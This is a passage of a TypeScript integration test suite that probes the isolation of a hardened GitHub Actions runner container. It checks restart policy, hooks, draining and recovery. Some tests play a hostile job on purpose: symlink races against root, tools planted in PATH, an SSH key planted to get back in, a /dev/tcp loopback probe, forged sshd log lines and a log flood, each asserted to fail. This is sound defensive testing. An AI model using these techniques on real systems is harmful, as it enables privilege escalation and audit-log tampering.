    ct.exec("systemctl start cco-forwarder.service", { timeoutMs: 60_000 });
    return storedEvents()
      .filter((e) => e.type === "heartbeat" && e.runner === "runner-01")
      .pop();
  };
  const bundleFile = (f: string) => `/root/${bundleDir.split("/").pop()!}/${f}`;
  const setParam = (key: string, value: string) =>
    ct.must(`sed -i 's|^${key}=.*|${key}=${value}|' ${bundleFile("runner.env")}`);

  it("runner service wrapper (issue 13, findings 1-2): run.sh with the signal trap, KillMode=mixed, the version follows self-updates", function () {
    const g = "runner wrapper and version (issue 13)";
    const u = unitProps(["ExecStart", "KillMode", "Environment", "DropInPaths", "MainPID"]);
    probes.add(
      g,
      "the unit runs the runner's own wrapper run.sh (it stays the main process across self-updates)",
      `${RD}/run.sh`,
      u.ExecStart!.slice(0, 120),
      u.ExecStart!.includes(`path=${RD}/run.sh`),
    );
    probes.add(
      g,
      "with RUNNER_MANUALLY_TRAP_SIG=1 and ACTIONS_RUNNER_RETURN_VERSION_DEPRECATED_EXIT_CODE=1",
      "both set",
      u.Environment!,
      u.Environment!.split(" ").includes("RUNNER_MANUALLY_TRAP_SIG=1") &&
        u.Environment!.split(" ").includes("ACTIONS_RUNNER_RETURN_VERSION_DEPRECATED_EXIT_CODE=1"),
    );
    probes.add(
      g,
      `KillMode=mixed with auto-update ${env.get("RUNNER_AUTO_UPDATE")} (no drop-in)`,
      "mixed, no drop-in",
      `${u.KillMode}, ${u.DropInPaths || "no drop-in"}`,
      u.KillMode === "mixed" && u.DropInPaths === "",
    );
    const main = ct.must(`ps -o args= -p ${u.MainPID}`).trim();
    probes.add(g, "the main process is run.sh", "bash .../run.sh", main, main.endsWith("run.sh"));

    // systemctl stop during a job: run.sh turns SIGTERM into SIGINT to the listener, which cancels the job; the rest is killed.
    githubAnswers("");
    queueJob("stop-1", { STUB_SECONDS: "120", GITHUB_REPOSITORY: "brentley/cco", GITHUB_RUN_ID: "5001" });
    const w = waitIn("a job running", "until pgrep -u runner -x Runner.Worker; do sleep 0.2; done", 20);
    probes.add(g, "a job runs (the stub's Runner.Worker)", "Runner.Worker running", w.out, w.ok);
    let r = ct.exec(
      `systemctl stop actions-runner.service; pgrep -u runner -a || echo none; systemctl show -P ActiveState actions-runner.service; systemctl show -P Result actions-runner.service; grep stop-1 ${RD}/_diag/stub-jobs.log`,
    );
    probes.add(
      g,
      "systemctl stop: the job is cancelled as a runner shutdown, nothing of runner is left, the unit stops cleanly",
      "none, inactive, success, stop-1 cancelled",
      describeRun(r),
      r.stdout.startsWith("none\ninactive\nsuccess\n") && r.stdout.includes("stop-1 cancelled by a runner shutdown"),
    );
    ct.must("systemctl start actions-runner.service");

    // A self-update (actions/runner update.sh.template): bin becomes a symlink to bin.<version>.
    ct.must(`cd ${RD} && mv bin bin.2.400.0 && ln -s ${RD}/bin.2.400.0 bin && touch bin.2.400.0/.untouched`, {
      user: "runner",
    });
    let p = provision(6);
    probes.add(
      g,
      "after a self-update to 2.400.0, provisioning unpacks nothing (no downgrade)",
      "exit 0, no 'unpacked'",
      `exit ${p.status} ${
        p.stderr
          .split("\n")
          .filter((l) => l.includes("unpacked"))
          .join(" ") || "(nothing unpacked)"
      }`,
      p.status === 0 && !p.stderr.includes("unpacked"),
    );
    r = ct.exec(`cat /var/lib/cco/runner-version; readlink ${RD}/bin`);
    probes.add(
      g,
      "the version marker follows the self-update",
      `2.400.0, ${RD}/bin.2.400.0`,
      describeRun(r),
      r.stdout.trim() === `2.400.0\n${RD}/bin.2.400.0`,
    );
    // A later bump past the self-updated version: unpacked beside the link, never through it.
    const pinned = env.get("RUNNER_VERSION")!;
    const oldBin = () => ct.must(`cd ${RD}/bin.2.400.0 && find . -printf '%p %s %T@\\n' | sort`);
    const oldBefore = oldBin();
    setParam("RUNNER_VERSION", "2.500.0");
    p = provision(7);
    r = ct.exec(`cat /var/lib/cco/runner-version; stat -c %F ${RD}/bin; systemctl is-active actions-runner.service`);
    probes.add(
      g,
      "a pinned bump past it (2.500.0) replaces the bin link with the new version, leaves bin.2.400.0 as it was",
      "2.500.0, directory, active; bin.2.400.0 unchanged",
      `exit ${p.status}; ${describeRun(r)}; bin.2.400.0 ${oldBin() === oldBefore ? "unchanged" : "CHANGED"}`,
      p.status === 0 && r.stdout === "2.500.0\ndirectory\nactive\n" && oldBin() === oldBefore,
    );
    setParam("RUNNER_VERSION", pinned);
    p = provision(8);
    probes.add(
      g,
      `back to the rendered ${pinned}: older than what runs, nothing is unpacked`,
      "exit 0, no 'unpacked', marker 2.500.0",
      `exit ${p.status}, marker ${ct.must("cat /var/lib/cco/runner-version").trim()}`,
      p.status === 0 &&
        !p.stderr.includes("unpacked") &&
        ct.must("cat /var/lib/cco/runner-version").trim() === "2.500.0",
    );
    expectGroup(g);
  });

  it("restart policy (issue 13, finding 3): no restart loop when GitHub refuses the runner, and the listener's state in the heartbeat", function () {
    const g = "restart policy and heartbeat (issue 13)";
    const u = unitProps(["Restart", "RestartPreventExitStatus", "SuccessExitStatus"]);
    probes.add(
      g,
      "Restart=always, but not for the wrappers' stop codes",
      "always; 0 1 5 7",
      `${u.Restart}; ${u.RestartPreventExitStatus}`,
      u.Restart === "always" && ["0", "1", "5", "7"].every((c) => u.RestartPreventExitStatus!.split(" ").includes(c)),
    );
    let beat = heartbeatNow();
    probes.add(
      g,
      "heartbeat while the listener runs",
      "running, null",
      JSON.stringify(beat),
      beat?.listener === "running" && beat?.listenerExitCode === null,
    );

    // GitHub refuses this version: the listener exits 7 (>= 2.333 with the variable), run.sh passes it on.
    githubAnswers("version-refused");
    ct.must("systemctl restart actions-runner.service");
    let w = waitIn(
      "the unit stops",
      "while systemctl is-active --quiet actions-runner.service; do sleep 0.2; done",
      20,
    );
    ct.must("sleep 12"); // longer than RestartSec=10: a restart would have happened
    let s = unitProps(["ActiveState", "ExecMainStatus", "NRestarts"]);
    probes.add(
      g,
      "version refused: the unit stays down (no restart every 10 s)",
      "failed, status 7, 0 restarts",
      `${w.ok ? "" : "still active; "}${s.ActiveState}, status ${s.ExecMainStatus}, ${s.NRestarts} restarts`,
      s.ActiveState === "failed" && s.ExecMainStatus === "7" && s.NRestarts === "0",
    );
    beat = heartbeatNow();
    probes.add(
      g,
      "heartbeat: refused, 7",
      "refused, 7",
      JSON.stringify(beat),
      beat?.listener === "refused" && beat?.listenerExitCode === 7,
    );

    // Deleted in GitHub: the listener exits 1, run-helper.sh reports it and exits 0.
    githubAnswers("deleted");
    ct.must("systemctl reset-failed actions-runner.service; systemctl start actions-runner.service");
    w = waitIn("the unit stops", "while systemctl is-active --quiet actions-runner.service; do sleep 0.2; done", 20);
    ct.must("sleep 12");
    s = unitProps(["ActiveState", "ExecMainStatus", "NRestarts"]);
    probes.add(
      g,
      "runner deleted in GitHub: the unit stays down",
      "inactive, status 0, 0 restarts",
      `${w.ok ? "" : "still active; "}${s.ActiveState}, status ${s.ExecMainStatus}, ${s.NRestarts} restarts`,
      s.ActiveState === "inactive" && s.ExecMainStatus === "0" && s.NRestarts === "0",
    );
    beat = heartbeatNow();
    probes.add(
      g,
      "heartbeat: refused, 1 (from run-helper.sh's line in the journal)",
      "refused, 1",
      JSON.stringify(beat),
      beat?.listener === "refused" && beat?.listenerExitCode === 1,
    );

    // A crash of the wrapper is restarted.
    githubAnswers("");
    ct.must("systemctl start actions-runner.service");
    const before = unitProps(["MainPID"]).MainPID!;
    const killedAt = ct.must("date +%s").trim();
    ct.must(`kill -KILL ${before}`);
    w = waitIn(
      "restarted",
      `until [ "$(systemctl show -P NRestarts actions-runner.service)" = 1 ] && systemctl is-active --quiet actions-runner.service; do sleep 0.5; done`,
      30,
    );
    probes.add(g, "run.sh killed: restarted after RestartSec", "1 restart, active", w.out, w.ok);
    // The operator's stop comes once the new listener listens: a stop in the instant between run.sh's
    // start and its listener's (loaded machine) waited for TimeoutStopSec (reported, not this probe's subject).
    waitIn(
      "listening",
      `until journalctl -u actions-runner.service --since @${killedAt} -o cat | grep -q 'Listening for Jobs'; do sleep 0.5; done`,
      30,
    );
    ct.must("systemctl stop actions-runner.service");
    beat = heartbeatNow();
    probes.add(
      g,
      "heartbeat after an operator's stop: stopped",
      "stopped",
      JSON.stringify(beat),
      beat?.listener === "stopped",
    );
    ct.must("systemctl start actions-runner.service");
    expectGroup(g);
  });

  it("hooks and PATH (issue 13, finding 5): .env re-asserted at every start, the hook's tools by absolute path", function () {
    const g = "hooks, .env and PATH (issue 13)";
    const hooksLine = "ACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/cco/job-started.sh";
    let r = ct.exec(`cat ${RD}/.env`);
    probes.add(
      g,
      "the runner's .env (loaded by the listener over the unit's environment) names the hooks",
      hooksLine,
      describeRun(r),
      r.stdout.includes(hooksLine),
    );
    // A job blanks the hooks in .env and makes the listener start again (it may signal its own processes).
    ct.must(
      `printf 'ACTIONS_RUNNER_HOOK_JOB_STARTED=\\nACTIONS_RUNNER_HOOK_JOB_COMPLETED=\\n' > ${RD}/.env && rm ${RD}/_diag/Runner_stub.log`,
      { user: "runner" },
    );
    const before = unitProps(["MainPID"]).MainPID!;
    ct.must(`kill -TERM ${before}`, { user: "runner" });
    const w = waitIn(
      "restarted",
      `until [ "$(systemctl show -P MainPID actions-runner.service)" != ${before} ] && [ "$(systemctl show -P MainPID actions-runner.service)" != 0 ] && grep -q hook-started ${RD}/_diag/Runner_stub.log; do sleep 0.5; done`,
      30,
    );
    r = ct.exec(`cat ${RD}/.env; grep hook- ${RD}/_diag/Runner_stub.log`);
    probes.add(
      g,
      "after the restart the listener has the hooks again (runner-env.sh rewrote .env)",
      "hooks in .env and in the listener",
      `${w.ok ? "" : "no restart; "}${describeRun(r)}`,
      w.ok && r.stdout.includes(hooksLine) && r.stdout.includes("hook-started: /opt/cco/job-started.sh"),
    );

    // A job whose GITHUB_PATH puts its own jq, date, grep and timeout first (the runner puts it first in a hook's PATH).
    ct.must(
      [
        "mkdir -p /home/runner/job-bin",
        "for t in jq date grep sed timeout tail; do printf '#!/bin/sh\\ntouch /home/runner/planted-ran\\nexit 0\\n' > /home/runner/job-bin/$t; chmod 755 /home/runner/job-bin/$t; done",
      ].join("\n"),
      { user: "runner" },
    );
    queueJob("path-1", {
      STUB_SECONDS: "1",
      STUB_RESULT: "Failed",
      STUB_DISPLAY: "path (probe)",
      STUB_GITHUB_PATH: "/home/runner/job-bin",
      GITHUB_REPOSITORY: "brentley/cco",
      GITHUB_WORKFLOW: "build",
      GITHUB_JOB: "path",
      GITHUB_RUN_ID: "5101",
      GITHUB_RUN_ATTEMPT: "1",
      RUNNER_NAME: "runner-01",
    });
    const done = waitIn("the job ran", `until grep -q '^path-1 ' ${RD}/_diag/stub-jobs.log; do sleep 0.3; done`, 30);
    const events = ct
      .exec("grep '\"runId\":5101' /var/spool/cco/events.jsonl")
      .stdout.trim()
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const got = events.map(
      (e) => `${String(e.type)}${typeof e.result === "string" ? `(${e.result})` : ""} ${String(e.job)}`,
    );
    probes.add(
      g,
      "the job's hooks, run by the stub Worker as the runner runs them, recorded it with its result",
      "job_started, job_completed(failed), display name",
      `${done.ok ? "" : "job did not finish; "}${got.join(", ")}`,
      got.join(",") === "job_started path (probe),job_completed(failed) path (probe)",
    );
    r = ct.exec("ls /home/runner/planted-ran 2>&1");
    probes.add(
      g,
      "none of the job's planted tools ran in the hooks",
      "no /home/runner/planted-ran",
      describeRun(r),
      r.status !== 0,
    );
    expectGroup(g);
  });

  it("drain (issue 13, finding 6): a restart by provisioning waits for the running job; only a Runner.Worker counts as one", function () {
    const g = "drain before restart (issue 13)";
    queueJob("drain-1", { STUB_SECONDS: "12", GITHUB_REPOSITORY: "brentley/cco", GITHUB_RUN_ID: "5201" });
    let w = waitIn("a job running", "until pgrep -u runner -x Runner.Worker; do sleep 0.2; done", 20);
    probes.add(g, "a 12 s job runs", "Runner.Worker running", w.out, w.ok);
    // A unit change, as an upgrade of this repository would bring.
    const unit = bundleFile("units/actions-runner.service");
    ct.must(`printf '# drain probe\\n' >> ${unit}`);
    const t0 = Date.now();
    let p = provision(9);
    const waited = (Date.now() - t0) / 1000;
    let r = ct.exec(`grep '^drain-1 ' ${RD}/_diag/stub-jobs.log; systemctl is-active actions-runner.service`);
    probes.add(
      g,
      "provisioning with a changed unit waited for the job, then restarted the runner",
      "waiting line, job finished (not cancelled), active",
      `exit ${p.status}, ${waited.toFixed(1)} s; ${p.stderr
        .split("\n")
        .filter((l) => l.includes("waiting"))
        .join(" ")}; ${describeRun(r)}`,
      p.status === 0 &&
        p.stderr.includes("waiting up to") &&
        r.stdout.startsWith("drain-1 finished") &&
        r.stdout.trim().endsWith("active"),
    );
    // Something else of runner's with "bin/Runner.Worker" in its command line is no job.
    ct.must(
      "nohup bash -c 'exec -a bin/Runner.Worker sleep 300' > /dev/null 2>&1 < /dev/null & echo $! > /home/runner/decoy.pid",
      { user: "runner" },
    );
    ct.must(`sed -i '/^# drain probe$/d' ${unit}`);
    p = provision(10);
    probes.add(
      g,
      "a process named like a path under bin/ is not waited for (pgrep -x Runner.Worker)",
      "exit 0, no waiting line, restarted",
      `exit ${p.status}; ${p.stderr
        .split("\n")
        .filter((l) => /waiting|started actions-runner/.test(l))
        .join(" ")}`,
      p.status === 0 && !p.stderr.includes("waiting") && p.stderr.includes("started actions-runner.service"),
    );
    ct.must("kill $(cat /home/runner/decoy.pid)", { user: "runner" });

    // drain.sh (deregistration): bounded; a job still running at the deadline keeps the runner up (exit 75).
    queueJob("drain-2", { STUB_SECONDS: "8", GITHUB_REPOSITORY: "brentley/cco", GITHUB_RUN_ID: "5202" });
    w = waitIn("a job running", "until pgrep -u runner -x Runner.Worker; do sleep 0.2; done", 20);
    r = ct.exec("RUNNER_DRAIN_S=2 /opt/cco/drain.sh; echo exit $?; systemctl is-active actions-runner.service");
    probes.add(
      g,
      "drain.sh with the job outliving its deadline",
      "exit 75, runner still active",
      describeRun(r),
      w.ok && r.stdout.includes("exit 75") && r.stdout.trim().endsWith("active"),
    );
    r = ct.exec(
      `/opt/cco/drain.sh; echo exit $?; grep '^drain-2 ' ${RD}/_diag/stub-jobs.log; systemctl is-active actions-runner.service; systemctl is-enabled actions-runner.service`,
    );
    probes.add(
      g,
      "drain.sh waits for the job, then stops and disables the listener",
      "exit 0, drain-2 finished, inactive, disabled",
      describeRun(r),
      r.stdout.includes("exit 0") && r.stdout.includes("drain-2 finished") && /inactive\ndisabled/.test(r.stdout),
    );
    r = ct.exec(
      "/opt/cco/drain.sh resume; systemctl is-active actions-runner.service; systemctl is-enabled actions-runner.service",
    );
    probes.add(
      g,
      "drain.sh resume (deregistration gave up) starts it again",
      "active, enabled",
      describeRun(r),
      /active\nenabled/.test(r.stdout),
    );
    expectGroup(g);
  });

  it("recovery (issue 13, finding 8): a configured directory without the recorded runner id is registered again", function () {
    const g = "recovery (issue 13)";
    ct.must("rm /var/lib/cco/runner-id");
    const p = provision(11);
    const removed = ct.exec(`cat ${RD}/.stub-remove-args`).stdout.trim().replace(/\n/g, " ");
    probes.add(
      g,
      "provisioning removes the local registration (config.sh remove --local) and registers",
      "exit 0, remove --local, registered, runner-id=4242",
      `exit ${p.status}; ${removed}; ${p.stderr
        .split("\n")
        .filter((l) => /registered|removed the local|error/.test(l))
        .join(" ")}; ${p.stdout.trim()}`,
      p.status === 0 &&
        removed === "remove --local" &&
        p.stderr.includes("registered runner-01") &&
        /^runner-id=4242$/m.test(p.stdout),
    );
    const r = ct.exec("systemctl is-active actions-runner.service");
    probes.add(g, "and the runner runs", "active", describeRun(r), r.stdout.trim() === "active");
    expectGroup(g);
  });

  // ---- The inner wall and the jobs-vs-root probes of issue 17 (the "wall" engineer's sections) ----

  it("root takes nothing from the runner: an upgrade-time symlink swap of the runner directory", function () {
    const g = "root vs runner: symlink swap at upgrade";
    const RD = "/home/runner/actions-runner";
    const target = "/var/lib/cco-probe-target";
    // A root-owned directory the job would like to own (as /opt/cco, whose scripts root runs at boot).
    ct.must(`rm -rf ${target}; install -d -m 755 -o root -g root ${target}; echo 'exit 0' > ${target}/run-as-root.sh`);
    // A job in progress (provisioning waits for its Runner.Worker), and a process it left behind outside the
    // unit that swaps the runner's directory for a symlink while provisioning waits.
    // (A job is a Runner.Worker process: the stub listener runs one for a queued job, issue 13.)
    queueJob("swap-1", { STUB_SECONDS: "7", GITHUB_REPOSITORY: "brentley/cco", GITHUB_RUN_ID: "5301" });
    ct.exec("timeout 20 bash -c 'until pgrep -u runner -x Runner.Worker; do sleep 0.2; done'", { timeoutMs: 30_000 });
    ct.must(`nohup bash -c 'sleep 2; mv ${RD} ${RD}.real && ln -s ${target} ${RD}' > /dev/null 2>&1 < /dev/null &`, {
      user: "runner",
    });
    // An upgrade: the version marker gone.
    ct.must("rm -f /var/lib/cco/runner-version");
    const p = provision(12);
    const last = p.stderr.split("\n").filter(Boolean).slice(-1)[0] ?? "";
    probes.add(
      g,
      "provisioning waited for the job, then refused the swapped directory",
      "exit != 0, 'is a symlink'",
      `exit ${p.status}: ${last}`,
      p.status !== 0 && /is a symlink/.test(p.stderr) && /waiting .*for the running job/.test(p.stderr),
    );
    let r = ct.exec(`stat -c '%U:%G %a' ${target}; ls ${target}`);
    probes.add(
      g,
      "the directory the symlink pointed at stays root's, nothing unpacked into it",
      "root:root 755, run-as-root.sh only",
      describeRun(r),
      r.stdout.trim() === "root:root 755\nrun-as-root.sh",
    );
    // The job's link removed, the directory back: provisioning upgrades as usual.
    ct.must(`[ -L ${RD} ] && rm ${RD}; [ -d ${RD}.real ] && mv ${RD}.real ${RD}; rm -rf ${target}`);
    const p2 = provision(13);
    r = ct.exec("systemctl is-active actions-runner.service; cat /var/lib/cco/runner-version");
    probes.add(
      g,
      "without the link, provisioning unpacks and the runner runs",
      "exit 0, unpacked, active",
      `exit ${p2.status}; ${r.stdout.trim()}`,
      p2.status === 0 && p2.stderr.includes("unpacked runner") && r.stdout.startsWith("active"),
    );
    // Nothing root runs, reads as configuration or writes through is the runner's (or anyone's) to change:
    // owned by root, not writable by others, nor by a group of the runner's.
    const notRoots = "\\( ! -user root -o -perm /002 -o \\( -perm /020 -group runner \\) \\)";
    r = ct.exec(
      "find / /opt /etc /usr /usr/local /opt/cco /etc/cco /etc/systemd /etc/dnsmasq.d /etc/ssh /usr/local/bin /usr/local/sbin /var/lib/cco /var/spool/cco" +
        ` -maxdepth 0 ${notRoots} -print; find /opt/cco /etc/cco /etc/systemd /etc/dnsmasq.d /etc/ssh /usr/local /var/lib/cco ${notRoots} ! -type l -print`,
    );
    probes.add(
      g,
      "root's scripts, units and configuration and their parents: root's, not writable by others",
      "(none)",
      r.stdout.trim() || "(none)",
      r.status === 0 && r.stdout.trim() === "",
    );
    expectGroup(g);
  });

  it("root takes nothing from the runner: the forwarder's temporary files", function () {
    const g = "root vs runner: /tmp symlink";
    // fs.protected_symlinks would stop root from following a job's symlink in /tmp. It is a host-wide setting,
    // not the container's: the probe turns it off (if it is on) for its few seconds, so that the scripts are
    // what stops the attack, and says so.
    const sysctl = "/proc/sys/fs/protected_symlinks";
    const was = readFileSync(sysctl, "utf8").trim();
    if (was !== "0") writeFileSync(sysctl, "0");
    try {
      const target = "/etc/cco/probe-target";
      ct.must(`install -m 644 -o root -g root /dev/null ${target}`);
      // Outside the unit, the job plants a symlink beside every temporary file of root's it sees in /tmp
      // (the forwarder once wrote "$batch.good" next to its mktemp file).
      ct.must(
        'nohup bash -c \'end=$((SECONDS + 40)); while [ $SECONDS -lt $end ]; do for f in /tmp/tmp.*; do [ -f "$f" ] && [ ! -L "$f.good" ] && ' +
          `ln -s ${target} "$f.good" 2> /dev/null && echo "$f" >> /home/runner/planted; done; done' > /dev/null 2>&1 < /dev/null & echo $! > /home/runner/tmp-planter.pid`,
        { user: "runner" },
      );
      // A job's line and a line the stats service refuses: the forwarder sends the first alone, through "$batch.good".
      const line = `{"v":1,"type":"job_started","ts":"2026-12-01T22:00:00.000Z","runner":"runner-01","repo":"brentley/cco","workflow":"payload-for-root","job":"j","runId":555001,"runAttempt":1}`;
      ct.must(`printf '%s\\n' '${line}' 'not json' >> /var/spool/cco/events.jsonl`, { user: "runner" });
      const r = ct.exec(
        "systemctl start cco-forwarder.service; systemctl show -P Result cco-forwarder.service; systemctl show -P PrivateTmp cco-forwarder.service",
        { timeoutMs: 60_000 },
      );
      ct.exec("kill $(cat /home/runner/tmp-planter.pid)", { user: "runner" });
      const written = ct.exec(`cat ${target}`).stdout;
      probes.add(
        g,
        `a root-owned file the job's symlink pointed at (fs.protected_symlinks ${was} on the host, 0 for the probe)`,
        "unchanged (empty)",
        written.trim() ? `root wrote the job's line into it: ${written.trim()}` : "empty",
        written === "",
      );
      probes.add(
        g,
        "the forwarder ran in a /tmp of its own",
        "success, PrivateTmp yes",
        describeRun(r),
        r.stdout.trim() === "success\nyes",
      );
      probes.add(
        g,
        "and still delivered the job's line (the refused one skipped)",
        "run 555001 stored",
        String(storedEvents().some((e) => e.runId === 555001)),
        storedEvents().some((e) => e.runId === 555001),
      );
      ct.exec(`rm -f ${target} /home/runner/planted`);
    } finally {
      if (was !== "0") writeFileSync(sysctl, was);
    }
    expectGroup(g);
  });

  it("jobs stay in their unit: no SSH back in as runner, no root service on loopback, nothing outlives a stop", function () {
    const g = "jobs stay in their unit";
    // Refused inside the job, not a job that never started (asJob's 99: the runner's unit was not running).
    const refusedInJob = (r: Run) => r.status !== 0 && r.status !== 99;
    const ssh =
      "ssh -i /home/runner/.ssh/id_cco -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5";
    // The job plants its own key in ~runner/.ssh/authorized_keys (its home is its own).
    ct.must(
      "mkdir -p -m 700 ~/.ssh && rm -f ~/.ssh/id_cco* && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_cco && cat ~/.ssh/id_cco.pub >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
      { user: "runner" },
    );
    for (const host of ["127.0.0.1", "::1", NET.container]) {
      const r = asJob(`${ssh} runner@${host} 'nohup sleep 6161 > /dev/null 2>&1 < /dev/null & echo escaped'`);
      probes.add(
        g,
        `a job: ssh runner@${host} with its planted key`,
        "refused",
        describeRun(r),
        refusedInJob(r) && !r.stdout.includes("escaped"),
      );
    }
    // Where the network lets it through (root's own loopback connection, as from the admin network), sshd refuses runner.
    let r = ct.exec(`${ssh} runner@127.0.0.1 'echo escaped'`);
    probes.add(
      g,
      "root's connection, the runner's key: sshd refuses runner (AllowUsers)",
      "refused, 'not listed in AllowUsers' logged",
      describeRun(r) +
        " " +
        ct.exec(
          "journalctl -b -u ssh --no-pager | grep -c 'runner from 127.0.0.1 not allowed because not listed in AllowUsers'",
        ).stdout,
      r.status !== 0 &&
        !r.stdout.includes("escaped") &&
        Number(
          ct
            .exec(
              "journalctl -b -u ssh --no-pager | grep -c 'runner from 127.0.0.1 not allowed because not listed in AllowUsers'",
            )
            .stdout.trim(),
        ) >= 1,
    );
    r = ct.exec("sshd -T | grep -i '^allowusers'");
    probes.add(
      g,
      "sshd effective allowusers",
      `allowusers ${env.get("ADMIN_USER") ?? "root"}`,
      r.stdout,
      r.stdout.trim() === `allowusers ${env.get("ADMIN_USER") ?? "root"}`,
    );
    r = asJob("timeout 3 bash -c 'exec 3<> /dev/tcp/127.0.0.1/22 && head -c 7 <&3'");
    probes.add(
      g,
      "a job: TCP to 127.0.0.1:22 (a root service on loopback)",
      "refused",
      describeRun(r),
      refusedInJob(r) && !r.stdout.includes("SSH"),
    );
    r = asJob("dig +short +time=2 +tries=1 @127.0.0.1 github.com");
    probes.add(
      g,
      "a job: the resolver on 127.0.0.1:53",
      "answers",
      describeRun(r),
      r.stdout.trim() === NET.records["github.com"],
    );
    r = asJob(
      'perl -MIO::Socket::INET -e \'$s = IO::Socket::INET->new(LocalAddr => "127.0.0.1:18081", Listen => 1, ReuseAddr => 1) or die; $c = $s->accept; print $c "own\\n"\' &' +
        " sleep 0.5; timeout 3 bash -c 'exec 3<> /dev/tcp/127.0.0.1/18081 && cat <&3'",
    );
    probes.add(
      g,
      "a job: its own server on an unprivileged loopback port",
      "connects",
      describeRun(r),
      r.stdout.trim() === "own",
    );
    r = ct.exec(
      "systemctl stop actions-runner.service; sleep 0.5; pgrep -a -f 'sleep 616[1]' || echo none; systemctl start actions-runner.service",
    );
    probes.add(
      g,
      "after systemctl stop actions-runner: nothing a job started is left",
      "none",
      describeRun(r),
      r.stdout.trim() === "none",
    );
    ct.exec("pkill -f 'sleep 616[1]'; rm -f ~/.ssh/id_cco* ~/.ssh/authorized_keys", { user: "runner" });
    expectGroup(g);
  });

  it("the journal is not the runner's to erase: shipped to the collector as it comes, a job's flood rate limited", function () {
    const g = "journal shipped off the container";
    const marker = `m${Date.now().toString(36)}`;
    // sshd's lines (an unknown user tries in), and a job's forgery of one.
    ct.exec(
      `ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 cco-audit-${marker}@127.0.0.1 true`,
    );
    asJob(`logger -t sshd 'Accepted publickey for root from 203.0.113.66 port 1 ssh2 forged-${marker}'`);
    const isSshd = (e: Record<string, string>) =>
      String(e.MESSAGE).includes(`cco-audit-${marker}`) && e._SYSTEMD_UNIT === "ssh.service";
    let shipped: Record<string, string> | undefined;
    const deadline = Date.now() + 30_000;
    while (!shipped && Date.now() < deadline) {
      if (existsSync(collectorJournal)) shipped = collected().find(isSshd);
      if (!shipped) run("sleep", ["1"]);
    }
    const upload = ct.exec("systemctl is-active systemd-journal-upload.service").stdout.trim();
    probes.add(
      g,
      "sshd's line about the unknown user reached the collector",
      "within 30 s, from ssh.service as uid 0",
      shipped
        ? `${shipped.MESSAGE} (_UID ${shipped._UID}, _SYSTEMD_UNIT ${shipped._SYSTEMD_UNIT})`
        : `not there (journal-upload ${upload})`,
      shipped !== undefined && shipped._UID === "0",
    );
    const forged = collected().find((e) => String(e.MESSAGE).includes(`forged-${marker}`));
    // _UID comes from the kernel (the socket's credentials); the unit journald reads from /proc, and loses for a process that already exited.
    probes.add(
      g,
      "a job's `logger -t sshd` line is told apart by the fields journald sets",
      "SYSLOG_IDENTIFIER sshd, but _UID of runner, not ssh.service",
      forged
        ? `SYSLOG_IDENTIFIER ${forged.SYSLOG_IDENTIFIER}, _UID ${forged._UID}, _SYSTEMD_UNIT ${forged._SYSTEMD_UNIT}`
        : "not shipped",
      forged !== undefined &&
        forged.SYSLOG_IDENTIFIER === "sshd" &&
        forged._UID === ct.exec("id -u runner").stdout.trim() &&
        forged._SYSTEMD_UNIT !== "ssh.service",
    );
    // A 20 s flood as the job (at most 200,000 lines, counted as they go).
    const line = "x".repeat(900);
    const t0 = Date.now();
    asJob(
      `yes 'flood-${marker} ${line}' | head -n 200000 | tee >(wc -l > /home/runner/flood-sent) | timeout 20 logger -t flood; sleep 1; true`,
      60_000,
    );
    const floodS = (Date.now() - t0) / 1000;
    const r = ct.exec(`cat /home/runner/flood-sent; journalctl -b --no-pager | grep -c 'flood-${marker}'`);
    const [sent, kept] = r.stdout.trim().split("\n").map(Number);
    // The unit's own limit, not journald's default (10000 per 30 s, which kept 30000 of a flood before issue 17);
    // journald scales a burst by the free disk space, hence the margin of 10.
    const burst = Number(ct.exec("systemctl show -P LogRateLimitBurst actions-runner.service").stdout.trim());
    // (journald writes its "Suppressed N messages" line only at the unit's next message after the interval.)
    probes.add(
      g,
      `a job's ${floodS.toFixed(0)} s logger flood is rate limited in the container`,
      "kept a small part: under 10 x the unit's own LogRateLimitBurst",
      `${kept} of ${sent} lines kept; LogRateLimitBurst ${burst}`,
      sent! > 10_000 && kept! > 0 && burst > 0 && kept! < 10 * burst,
    );
    run("sleep", ["3"]);
    const after = collected();
    probes.add(
      g,
      "sshd's shipped line is still at the collector after the flood",
      "there",
      after.some(isSshd) ? "there" : "gone",
      after.some(isSshd),
    );
    const local = ct.exec(`journalctl -b --no-pager -u ssh | grep -c 'cco-audit-${marker}'`).stdout.trim();
    probes.add(g, "(and in the container's own journal)", ">= 1 line", local, Number(local) >= 1);
    expectGroup(g);
  });

  it("the inner wall: rebinding, a foreign storage account, a moved name, a full set, the extra blocks' ports", function () {
    const g = "inner wall";
    const asRunner = (script: string) => ct.exec(script, { user: "runner" });
    // What the larger allowlist (one set per domain) costs at boot: egress.sh's run in cco-egress.service.
    const [startUs, exitUs] = ct
      .must(
        "systemctl show -P ExecMainStartTimestampMonotonic cco-egress.service; systemctl show -P ExecMainExitTimestampMonotonic cco-egress.service",
      )
      .trim()
      .split("\n")
      .map(Number);
    // (exec, not must: scripts without per-domain sets count 0 and the probes below still run.)
    const sets = ct.exec("ipset list -n | grep -c '^cco-d-'").stdout.trim();
    probes.add(
      g,
      `egress.sh at the last boot (${env.get("EGRESS_DOMAINS")!.split(" ").length} domains, ${sets} domain sets)`,
      "under 10 s",
      `${((exitUs! - startUs!) / 1e6).toFixed(2)} s`,
      exitUs! > startUs! && exitUs! - startUs! < 10e6,
    );
    const inSet = (addr: string) => ct.exec(`ipset test cco-allow ${addr}`).status === 0;
    // DNS rebinding: an allowed name answered with a private address.
    let r = asRunner(
      `dig +time=2 +tries=1 ${NET.rebind.name} | grep -o -e 'status: [A-Z]*' -e '${NET.rebind.address}'`,
    );
    probes.add(
      g,
      `${NET.rebind.name} answered upstream with ${NET.rebind.address} (rebinding)`,
      "NXDOMAIN, the address not in the set",
      `${describeRun(r)}; in set: ${inSet(NET.rebind.address)}`,
      r.stdout.trim() === "status: NXDOMAIN" && !inSet(NET.rebind.address),
    );
    // GitHub's own storage accounts by name; anyone else's is not allowed.
